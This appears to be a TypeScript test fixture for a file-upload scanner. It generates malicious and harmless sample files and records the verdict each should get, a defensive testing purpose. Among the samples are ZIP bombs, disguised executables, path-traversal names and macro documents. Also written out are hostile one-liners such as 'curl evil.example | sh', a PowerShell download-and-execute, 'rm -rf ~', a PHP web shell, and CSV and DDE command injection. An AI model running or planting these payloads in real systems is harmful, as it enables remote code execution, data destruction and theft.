import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import type { ReasonCode } from '@secura/domain/evidence/reasons';
import type { EvidenceState } from '@secura/domain/evidence/states';
import { drawPicture } from '../../seed/picture.ts';
import { packZip, zipEnd, type PackedFile } from './pack.ts';

/** A file that somebody might send to do harm, and where it must end. */
export interface Hostile {
  what: string;
  name: string;
  bytes: Buffer;
  state: Extract<EvidenceState, 'clean' | 'flagged' | 'infected' | 'refused'>;
  reason?: ReasonCode;
  /** What its record says, where that is not true of its bytes. */
  announced?: { size?: number; sha256?: string };
}

/** The industry's harmless test file; put together so that no scanner takes this source for it. */
export const eicar = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!', '$H+H*'].join(''), 'latin1');

const picture = drawPicture(1);
const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(78), Buffer.from('This program cannot be run in DOS mode'), Buffer.alloc(200)]);
const hex = (start: string, length = 200): Buffer => Buffer.concat([Buffer.from(start, 'hex'), Buffer.alloc(length)]);

/** A small PDF whose catalogue holds `inside`. */
export function pdf(inside = '', more: Buffer = Buffer.alloc(0)): Buffer {
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${inside} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n`),
    more,
    Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  ]);
}

const pdfStream = (content: Buffer | string): Buffer => {
  const packed = deflateSync(Buffer.from(content));
  return Buffer.concat([Buffer.from(`5 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`), packed, Buffer.from('\nendstream\nendobj\n')]);
};

const pdfText = (filter: string, content: string): Buffer => Buffer.from(`5 0 obj\n<< /Type /ObjStm /Length ${content.length} /Filter ${filter} >>\nstream\n${content}\nendstream\nendobj\n`);

function ascii85(bytes: Buffer): string {
  let text = '';
  for (let at = 0; at < bytes.length; at += 4) {
    const group = Buffer.concat([bytes.subarray(at, at + 4), Buffer.alloc(3)]).readUInt32BE();
    const digits = [4, 3, 2, 1, 0].map((power) => String.fromCharCode(33 + (Math.floor(group / 85 ** power) % 85))).join('');
    text += digits.slice(0, Math.min(4, bytes.length - at) + 1);
  }
  return `${text}~>`;
}

/** An Office document of today with more parts. */
export function office(folder: 'word' | 'xl' | 'ppt', ...more: PackedFile[]): Buffer {
  const main = { word: 'word/document.xml', xl: 'xl/workbook.xml', ppt: 'ppt/presentation.xml' }[folder];
  return packZip([{ name: '[Content_Types].xml', content: '<Types/>' }, { name: main, content: '<document/>' }, ...more]);
}

const external = (kind: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;

/** An OLE container that holds parts of these names. */
const ole = (...names: string[]): Buffer => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), ...names.map((name) => Buffer.from(`${name}\0`, 'utf16le')), Buffer.alloc(64)]);

const nested = (depth: number): Buffer => (depth === 0 ? packZip([{ name: 'end.txt', content: 'the end' }]) : packZip([{ name: `level-${depth}.zip`, content: nested(depth - 1) }]));

function quine(): Buffer {
  // All entries point to one packed megabyte: a directory that says far more than the file holds.
  const one = packZip([{ name: 'a', content: Buffer.alloc(1_000_000) }]);
  const at = one.indexOf(Buffer.from('PK\x01\x02', 'latin1'));
  const record = one.subarray(at, one.length - 22);
  const records = Array.from({ length: 200 }, () => record);
  return Buffer.concat([one.subarray(0, at), ...records, zipEnd(200, record.length * 200, at)]);
}

const mail = 'From: a@example.com\r\nTo: b@example.com\r\nSubject: Hello\r\n\r\nA letter.\r\n';
/** A mail to which a file is attached; `headers` of its part in place of the usual ones. */
export const mailWith = (name: string, content: Buffer, headers = `Content-Disposition: attachment; filename="${name}"`): Buffer =>
  Buffer.from(
    ['From: a@example.com', 'To: b@example.com', 'Subject: Your invoice', 'MIME-Version: 1.0', 'Content-Type: multipart/related; boundary=b', '', '--b', 'Content-Type: text/plain', '', 'See below.', '--b', headers, 'Content-Transfer-Encoding: base64', '', content.toString('base64'), '--b--', ''].join('\r\n'),
  );

/** A ZIP file with an entry before the others that its directory does not name. */
function zipWithHidden(hidden: PackedFile): Buffer {
  const entriesOf = (zip: Buffer): Buffer => zip.subarray(0, zip.readUInt32LE(zip.length - 6));
  const [before, shown] = [entriesOf(packZip([hidden])), packZip([{ name: 'a.txt', content: 'harmless' }])];
  const directory = Buffer.from(shown.subarray(entriesOf(shown).length, -22));
  directory.writeUInt32LE(before.length, 42);
  return Buffer.concat([before, entriesOf(shown), directory, zipEnd(1, directory.length, before.length + entriesOf(shown).length)]);
}

const refused = (what: string, name: string, bytes: Buffer, reason: ReasonCode): Hostile => ({ what, name, bytes, state: 'refused', reason });
const flagged = (what: string, name: string, bytes: Buffer, reason: ReasonCode): Hostile => ({ what, name, bytes, state: 'flagged', reason });
const infected = (what: string, name: string, bytes: Buffer): Hostile => ({ what, name, bytes, state: 'infected', reason: 'malware' });

const lying = (what: string, bytes: Buffer, announced: NonNullable<Hostile['announced']>, reason: ReasonCode): Hostile => ({ what, name: 'note.txt', bytes, state: 'refused', reason, announced });
const limit = 10 * 1024 * 1024;

/** Sixty files and more, made here: none of them lies in the repository. */
export const hostileFiles: Hostile[] = [
  refused('a Windows program', 'setup.exe', pe, 'program'),
  refused('a Windows program that calls itself a picture', 'holiday.png', pe, 'program'),
  refused('a Windows program that calls itself a PDF', 'invoice.pdf', pe, 'program'),
  refused('a program with two endings', 'invoice.pdf.exe', pe, 'program'),
  refused('a Linux program called text', 'notes.txt', hex('7f454c46'), 'program'),
  refused('a macOS program called log', 'system.log', hex('cffaedfe'), 'program'),
  refused('a Java class', 'A.class', hex('cafebabe'), 'program'),
  refused('a Java archive called ZIP', 'update.zip', packZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' }, { name: 'A.class', content: hex('cafebabe') }]), 'program'),
  refused('WebAssembly', 'a.bin', hex('0061736d01000000'), 'program'),
  refused('a Windows shortcut', 'Report.pdf.lnk', hex('4c0000000114020000000000c000000000000046'), 'program'),
  refused('a OneNote section', 'notes.one', hex('e4525c7b8cd8a74daeb15378d02996d3'), 'program'),
  refused('PostScript', 'letter.ps', Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) run'), 'program'),
  refused('a Flash film', 'film.swf', Buffer.from('FWS0123456789'), 'program'),
  refused('a compiled help file', 'help.chm', Buffer.from('ITSF0123456789'), 'program'),
  refused('a RAR archive', 'a.rar', Buffer.from('Rar!\x1a\x07\x00', 'latin1'), 'archive_kind'),
  refused('a 7z archive', 'a.7z', hex('377abcaf271c'), 'archive_kind'),
  refused('a gzip file', 'a.txt.gz', hex('1f8b08'), 'archive_kind'),
  refused('a tar archive called log', 'a.log', Buffer.concat([Buffer.alloc(257), Buffer.from('ustar'), Buffer.alloc(250)]), 'archive_kind'),
  refused('a CAB archive', 'a.cab', Buffer.from('MSCF0000'), 'archive_kind'),
  refused('a disk image', 'a.iso', Buffer.concat([Buffer.alloc(32769), Buffer.from('CD001'), Buffer.alloc(100)]), 'archive_kind'),
  refused('a web page', 'page.html', Buffer.from('<!DOCTYPE html><script>alert(1)</script>'), 'web_page'),
  refused('a web page called text', 'page.txt', Buffer.from('\n\n  <HTML><body onload=alert(1)>'), 'web_page'),
  refused('a web page called picture', 'page.png', Buffer.from('<script>fetch("/api")</script>'), 'web_page'),
  refused('an SVG with a script', 'logo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'web_page'),
  refused('an SVG behind an XML declaration, called text', 'logo.txt', Buffer.from('<?xml version="1.0"?>\n<!-- x -->\n<svg onload="alert(1)"/>'), 'web_page'),
  refused('an HTML application', 'a.hta', Buffer.from('plain words'), 'web_page'),
  refused('a web archive', 'a.mht', Buffer.from('From: x\r\nMIME-Version: 1.0\r\n\r\n<html>'), 'web_page'),
  refused('rich text, which holds objects', 'letter.doc', Buffer.from('{\\rtf1{\\object\\objdata 0105}}'), 'unknown_type'),
  refused('an installer', 'setup.msi', ole('Property', 'Binary'), 'unknown_type'),
  refused('random bytes', 'data.bin', Buffer.from(Array.from({ length: 999 }, (_, index) => (index * 7919) % 256)), 'unknown_type'),
  refused('text with a zero byte in it', 'a.txt', Buffer.from('harmless\0and then'), 'unknown_type'),
  refused('a ZIP bomb', 'bomb.zip', packZip([{ name: 'zeros.txt', content: Buffer.alloc(30_000_000, 32) }]), 'archive_bomb'),
  refused('a ZIP bomb that says that it is small', 'bomb.zip', packZip([{ name: 'zeros.txt', content: Buffer.alloc(30_000_000, 32), claims: 10 }]), 'archive_bomb'),
  refused('a ZIP bomb in many parts', 'bomb.zip', packZip(Array.from({ length: 9 }, (_, index) => ({ name: `${index}.txt`, content: Buffer.alloc(9_000_000, 32) }))), 'archive_bomb'),
  refused('a ZIP bomb in a ZIP file', 'bomb.zip', packZip([{ name: 'in.zip', content: packZip([{ name: 'zeros.txt', content: Buffer.alloc(30_000_000, 32) }]) }]), 'archive_bomb'),
  refused('a ZIP bomb that calls itself a document', 'letter.docx', office('word', { name: 'word/media/a.xml', content: Buffer.alloc(30_000_000, 32) }), 'archive_bomb'),
  refused('a ZIP file whose entries share their bytes', 'quine.zip', quine(), 'archive_bomb'),
  refused('a PDF with a bomb inside', 'bomb.pdf', pdf('', pdfStream(Buffer.alloc(70_000_000, 32))), 'archive_bomb'),
  refused('archives in archives', 'deep.zip', nested(5), 'archive_too_deep'),
  refused('an archive of a thousand entries and one', 'many.zip', packZip(Array.from({ length: 1001 }, (_, index) => ({ name: `${index}.txt`, content: 'x' }))), 'archive_too_many'),
  refused('a ZIP file cut off', 'torn.zip', packZip([{ name: 'a.txt', content: 'x'.repeat(500) }]).subarray(0, 80), 'archive_damaged'),
  refused('a ZIP file in which one entry has two names', 'two.zip', packZip([{ name: 'good.txt', localName: 'evil.exe', content: 'x' }]), 'archive_damaged'),
  refused('a ZIP file whose directory points outside of it', 'out.zip', Buffer.concat([packZip([{ name: 'a', content: 'x' }]).subarray(0, 40), zipEnd(1, 46, 0x7fffffff)]), 'archive_damaged'),
  refused('a ZIP file packed in a way that cannot be looked into', 'odd.zip', packZip([{ name: 'a', content: 'x', method: 98 }]), 'archive_damaged'),
  refused('a file of ten megabytes and one byte', 'big.log', Buffer.alloc(limit + 1, 'a'), 'too_large'),
  refused('a file in which there is nothing', 'empty.txt', Buffer.alloc(0), 'empty'),
  lying('a file that is longer than was announced', Buffer.from('A note, and more than a note.'), { size: 7 }, 'size_differs'),
  lying('a file that is shorter than was announced', Buffer.from('A note.'), { size: 4096 }, 'size_differs'),
  lying('a file that says that it is small and is too large', Buffer.alloc(limit + 1, 'a'), { size: 10 }, 'too_large'),
  lying('a file that says that it holds something and is empty', Buffer.alloc(0), { size: 10 }, 'empty'),
  lying('another file of the same length', Buffer.from('A note!'), { sha256: createHash('sha256').update('A note.').digest('hex') }, 'hash_differs'),
  refused('a program whose name leaves its folder', '../../../../usr/bin/sudo', hex('7f454c46'), 'program'),
  refused('a program whose name leaves its folder in the Windows way', '..\\..\\Windows\\System32\\calc.png', pe, 'program'),
  refused('a program whose name is written backwards at its end', 'invoice\u202Efdp.exe', pe, 'program'),
  refused('a program whose name holds a line end and a header', 'a.png\r\nContent-Type: text/html', pe, 'program'),
  flagged('an archive that leaves its folder', 'a.zip', packZip([{ name: '../../etc/passwd', content: 'root' }]), 'archive_path'),
  flagged('an archive that leaves its folder in the Windows way', 'a.zip', packZip([{ name: 'C:\\Windows\\a.txt', content: 'x' }]), 'archive_path'),
  flagged('an archive with a program', 'a.zip', packZip([{ name: 'readme.txt', content: 'x' }, { name: 'invoice.pdf', content: pe }]), 'archive_program'),
  flagged('an archive with a web page', 'a.zip', packZip([{ name: 'login.html', content: '<html><form action="http://evil.example">' }]), 'archive_active'),
  flagged('an archive with a password', 'a.zip', packZip([{ name: 'secret.txt', content: 'x', flags: 1, method: 0 }]), 'encrypted'),
  flagged('a Word document with macros', 'letter.docm', office('word', { name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }), 'macro'),
  flagged('a Word document with macros that hides them behind its ending', 'letter.docx', office('word', { name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }), 'macro'),
  flagged('an Excel workbook with macros of 1992', 'sheet.xlsx', office('xl', { name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }), 'macro'),
  flagged('a Word document that fetches its template', 'letter.docx', office('word', { name: 'word/_rels/settings.xml.rels', content: external('attachedTemplate', 'http://evil.example/t.dotm') }), 'remote_content'),
  flagged('a Word document with a field that starts programs', 'letter.docx', office('word', { name: 'word/header1.xml', content: '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>' }), 'command_field'),
  flagged('a presentation with a packed object', 'a.pptx', office('ppt', { name: 'ppt/embeddings/oleObject1.bin', content: 'x' }), 'embedded_object'),
  flagged('a Word document of 1997 with macros', 'letter.doc', ole('WordDocument', '_VBA_PROJECT'), 'macro'),
  flagged('an Office document with a password', 'letter.docx', ole('EncryptedPackage', 'EncryptionInfo'), 'encrypted'),
  flagged('a PDF with a script', 'a.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'pdf_active'),
  flagged('a PDF with a script whose name is written in numbers', 'a.pdf', pdf('/OpenAction << /S /J#61va#53cript /J#53 (x) >>'), 'pdf_active'),
  flagged('a PDF with a script in a packed part', 'a.pdf', pdf('', pdfStream('<< /S /Launch /F (cmd.exe) >>')), 'pdf_active'),
  flagged('a PDF with a file inside', 'a.pdf', pdf('/Names << /EmbeddedFiles 9 0 R >>'), 'pdf_active'),
  flagged('a PDF with a password', 'a.pdf', pdf('/Encrypt 7 0 R'), 'encrypted'),
  flagged('a PDF that begins as a script', 'a.pdf', Buffer.concat([Buffer.from('#!/bin/sh\nrm -rf ~\n'), pdf()]), 'appended'),
  flagged('a PDF with a ZIP file behind it', 'a.pdf', Buffer.concat([pdf(), packZip([{ name: 'a.exe', content: pe }])]), 'appended'),
  flagged('a picture with a ZIP file behind it', 'a.png', Buffer.concat([picture, packZip([{ name: 'a.exe', content: pe }])]), 'appended'),
  flagged('a picture with a web page behind it', 'a.png', Buffer.concat([picture, Buffer.from('<script>alert(1)</script>')]), 'appended'),
  flagged('a picture with PHP behind it', 'a.png', Buffer.concat([picture, Buffer.from('<?php system($_GET[0]); ?>')]), 'appended'),
  flagged('a GIF that is a script', 'a.gif', Buffer.from('GIF89a/*' + 'x'.repeat(100) + '*/=1;alert(1)'), 'undecodable'),
  flagged('a JPEG that stops at once', 'a.jpg', hex('ffd8ffe000104a464946'), 'undecodable'),
  flagged('a PDF called picture', 'scan.png', pdf(), 'disguised'),
  flagged('a shell script', 'install.txt', Buffer.from('#!/bin/bash\ncurl evil.example | sh\n'), 'script'),
  flagged('a PowerShell script', 'update.ps1', Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://evil.example")'), 'script'),
  flagged('a mail with a program', 'mail.eml', mailWith('invoice.pdf.exe', pe), 'attached_program'),
  flagged('a mail with a program that is shown as a part of its text', 'mail.eml', mailWith('logo.png', pe, 'Content-Type: image/png\r\nContent-Disposition: inline; filename="logo.png"\r\nContent-ID: <logo>'), 'attached_program'),
  flagged('a mail with macros', 'mail.eml', mailWith('letter.docm', office('word', { name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' })), 'attached_active'),
  flagged('a mail with a page that asks for a password', 'mail.eml', mailWith('login.html', Buffer.from('<html><form action="http://evil.example">')), 'attached_active'),
  flagged('a mail with a mail with a program', 'mail.eml', mailWith('forwarded.eml', mailWith('setup.exe', pe)), 'attached_program'),
  flagged('a mail with an archive that nobody can look into', 'mail.eml', mailWith('invoice.rar', Buffer.from('Rar!\x1a\x07\x00', 'latin1')), 'attached_active'),
  flagged('a mail with a bomb', 'mail.eml', mailWith('bomb.zip', packZip([{ name: 'zeros.txt', content: Buffer.alloc(30_000_000, 32) }])), 'attached_active'),
  flagged('an archive with a file that its directory does not name', 'a.zip', zipWithHidden({ name: 'evil.exe', content: pe }), 'archive_hidden'),
  flagged('an archive with an archive that nobody can look into', 'a.zip', packZip([{ name: 'a.7z', content: hex('377abcaf271c') }]), 'archive_closed'),
  flagged('an archive with a mail with a program', 'a.zip', packZip([{ name: 'mail.eml', content: mailWith('setup.exe', pe) }]), 'archive_closed'),
  flagged('a Word document that fetches its template, quoted in the other way', 'letter.docx', office('word', { name: 'word/_rels/settings.xml.rels', content: external('attachedTemplate', 'http://evil.example/t.dotm').replaceAll('"', "'") }), 'remote_content'),
  flagged('a Word document that fetches its template, written in numbers', 'letter.docx', office('word', { name: 'word/_rels/settings.xml.rels', content: external('attachedTemplate', 'http://evil.example/t.dotm').replace('External', '&#69;xterna&#x6c;') }), 'remote_content'),
  flagged('a Word document that fetches its template, in UTF-16', 'letter.docx', office('word', { name: 'word/_rels/settings.xml.rels', content: Buffer.from(`\ufeff${external('attachedTemplate', 'http://evil.example/t.dotm')}`, 'utf16le') }), 'remote_content'),
  flagged('a Word document with a picture that tells its sender who reads it', 'letter.docx', office('word', { name: 'word/_rels/document.xml.rels', content: external('image', 'http://evil.example/1.png') }), 'remote_content'),
  flagged('a Word document with macros under another name', 'letter.docx', office('word', { name: 'word/theme.bin', content: ole('_VBA_PROJECT') }), 'macro'),
  flagged('a document of LibreOffice with macros', 'letter.odt', packZip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 }, { name: 'content.xml', content: '<x/>' }, { name: 'Basic/Standard/Module1.xml', content: '<x/>' }]), 'macro'),
  flagged('a table with a cell that starts a program', 'users.csv', Buffer.from("name,mail\n=cmd|'/C calc'!A0,x\n"), 'command_field'),
  flagged('a table with a cell that asks an address', 'users.csv', Buffer.from('name,mail\n"=HYPERLINK(""http://evil.example/""&A1)",x\n'), 'command_field'),
  flagged('a PDF with a script in a part that is written in hex', 'a.pdf', pdf('', pdfText('/ASCIIHexDecode', `${Buffer.from('<< /S /JavaScript /JS (x) >>').toString('hex')}>`)), 'pdf_active'),
  flagged('a PDF with a script in a part that is packed and then written as text', 'a.pdf', pdf('', pdfText('[/ASCII85Decode /FlateDecode]', ascii85(deflateSync(Buffer.from('<< /S /JavaScript /JS (x) >>'))))), 'pdf_active'),
  flagged('a PDF that opens a file elsewhere', 'a.pdf', pdf('/OpenAction << /S /GoToR /F (\\\\evil.example\\a) /D [0 /Fit] >>'), 'pdf_active'),
  infected('the test file attached to a mail', 'mail.eml', mailWith('note.txt', eicar)),
  infected('the test file in a ZIP file attached to a mail', 'mail.eml', mailWith('note.zip', packZip([{ name: 'eicar.com', content: eicar }]))),
  infected('the test file attached to a mail in a mail', 'mail.eml', mailWith('forwarded.eml', mailWith('note.txt', eicar))),
  infected('the test file attached to a mail in a ZIP file', 'a.zip', packZip([{ name: 'mail.eml', content: mailWith('note.txt', eicar) }])),
  infected('the test file for scanners', 'eicar.txt', eicar),
  infected('the test file called picture', 'eicar.png', eicar),
  infected('the test file in a ZIP file', 'a.zip', packZip([{ name: 'eicar.com', content: eicar }])),
  infected('the test file in a ZIP file in a ZIP file', 'a.zip', packZip([{ name: 'b.zip', content: packZip([{ name: 'eicar.com', content: eicar }]) }])),
  infected('the test file in a packed part of a PDF', 'a.pdf', pdf('', pdfStream(eicar))),
  infected('the test file in an Office document', 'a.docx', office('word', { name: 'word/media/x.bin', content: eicar })),
  infected('the test file behind a picture', 'a.png', Buffer.concat([picture, eicar])),
];

/** Files as people really send them: nothing is said against any. */
export const harmlessFiles: Hostile[] = (
  [
    ['a screenshot', 'Screenshot.png', picture],
    ['a letter', 'letter.pdf', pdf('/OpenAction [3 0 R /Fit]', pdfStream('BT (Hello) Tj ET'))],
    ['a note', 'note.txt', Buffer.from('They called at 10:15 – “from the bank”.')],
    ['a note in an old encoding', 'note.txt', Buffer.from('Gr\xfc\xdfe aus M\xfcnchen', 'latin1')],
    ['a note in UTF-16', 'note.txt', Buffer.from('\ufeffhello', 'utf16le')],
    ['a web server log with an attack in it', 'access.log', Buffer.from('10.0.0.1 - - "GET /?q=<script>alert(1)</script> HTTP/1.1" 403\n')],
    ['a table', 'users.csv', Buffer.from('name,mail\nAna,ana@example.com\n')],
    ['a log of JSON', 'events.json', Buffer.from('{"a":1}')],
    ['a table with numbers below zero and a rule', 'change.csv', Buffer.from('name,change\nAna,-5\nBo,+3.2\n"Sum","-1.8"\n-----|-----\n')],
    ['a mail', 'mail.eml', Buffer.from(mail)],
    ['a mail with a picture', 'mail.eml', mailWith('photo.png', picture)],
    ['a mail with a letter', 'mail.eml', mailWith('letter.pdf', pdf())],
    ['a mail of Outlook', 'mail.msg', ole('__substg1.0_0037001F')],
    ['a Word document', 'letter.docx', office('word', { name: 'word/_rels/document.xml.rels', content: external('hyperlink', 'https://example.com') })],
    ['a workbook', 'table.xlsx', office('xl')],
    ['a Word document of 1997', 'letter.doc', ole('WordDocument')],
    ['a network capture', 'a.pcap', hex('d4c3b2a1020004')],
    ['a ZIP file with logs', 'logs.zip', packZip([{ name: 'logs/', content: '' }, { name: 'logs/a.log', content: 'line\n'.repeat(2000) }])],
  ] as [string, string, Buffer][]
).map(([what, name, bytes]) => ({ what, name, bytes, state: 'clean' }));
